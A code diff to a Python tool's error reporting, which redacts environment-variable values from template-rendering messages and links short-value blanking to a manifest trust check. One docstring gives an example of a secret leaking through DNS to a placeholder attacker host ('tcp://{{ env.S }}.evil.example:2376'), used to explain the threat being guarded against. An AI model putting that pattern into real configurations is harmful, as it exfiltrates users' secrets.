@@ -62,6 +62,9 @@ class _Problems:
         self.sources: dict[Path, tuple[str, ...]] = {}  # templated path → the variables it read
         self.read: dict[str, str] = {}  # variable → value, for every variable a template read
         self.rendered: dict[Path, Any] = {}  # what each template that read a variable made
+        # Blank a value under four characters where it stands alone: not in an untrusted manifest, where which `a`
+        # or `4` of a message was blanked would tell the value (and its secret fields' values are never quoted).
+        self.hide_short = True
         self.errors: list[tuple[int, int, str]] = []
         self.warnings: list[tuple[int, int, str]] = []
 
@@ -71,6 +74,8 @@ class _Problems:
         related = [path for path in self.sources if path[: len(where)] == where or where[: len(path)] == path]
         labels = {self.read[name]: f"env.{name}" for path in related for name in self.sources[path]}
         labels.update({str(self.rendered[path]): SENSITIVE for path in related if path in self.rendered})
+        if not self.hide_short:
+            labels = {value: label for value, label in labels.items() if len(value) >= MIN_REDACTED_LENGTH}
         message = replaced(message, labels) if labels else message
         text = f"{schema.format_path(where)}{self._tunnel(where)}: {message}"
         if severity == checks.WARNING:
@@ -230,10 +235,11 @@ def _note_rendering(problems: _Problems, rendering: templates.Rendering, process
     made of a variable would be blanked only where it is recognised, and where it is tells what it is), or is an
     address, whose name reaches whoever answers DNS (`tcp://{{ env.S }}.evil.example:2376`, an image's registry).
     Secret fields are never shown, nor sent anywhere but Pinggy."""
+    decided = trust(process)
     problems.sources, problems.read, problems.rendered = rendering.sources, rendering.read, rendering.rendered
+    problems.hide_short = decided.trusted
     for where, message in rendering.problems:
         problems.add(where, message)
-    decided = trust(process)
     if decided.trusted:
         return
     for where, names in rendering.sources.items():
